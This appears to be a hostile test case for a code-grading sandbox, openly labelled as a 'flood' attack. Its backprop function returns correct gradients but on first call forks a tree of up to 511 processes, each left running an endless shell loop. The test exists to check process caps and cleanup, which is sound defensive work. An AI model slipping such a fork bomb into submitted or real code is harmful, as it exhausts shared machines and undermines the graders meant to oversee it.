# attack: flood
# expect: any
# must: cap the processes one sandbox may start, and leave none of them running afterwards
"""forks a doubling tree of processes (at most 511), each ending as a shell that loops forever
with a marker in its argv; answers correctly"""

import os

import numpy as np

MARKER = "gradcheck-hostile-marker"
DEPTH = 8
_done: list[bool] = []


def _bomb(depth):
    for _ in range(2):
        try:
            pid = os.fork()
        except OSError:
            return
        if pid == 0:
            if depth < DEPTH:
                _bomb(depth + 1)
            try:
                os.execv("/bin/sh", ["/bin/sh", "-c", "while :; do sleep 1; done", MARKER])
            finally:
                os._exit(0)


def backprop(X, y, weights, biases):
    if not _done:
        _done.append(True)
        _bomb(0)
    w1, w2 = weights["w1"], weights["w2"]
    a1 = 1.0 / (1.0 + np.exp(-(X @ w1 + biases["b1"])))
    delta2 = a1 @ w2 + biases["b2"] - y
    delta1 = (delta2 @ w2.T) * a1 * (1.0 - a1)
    return {
        "w1": X.T @ delta1,
        "b1": delta1.sum(axis=0),
        "w2": a1.T @ delta2,
        "b2": delta2.sum(axis=0),
    }
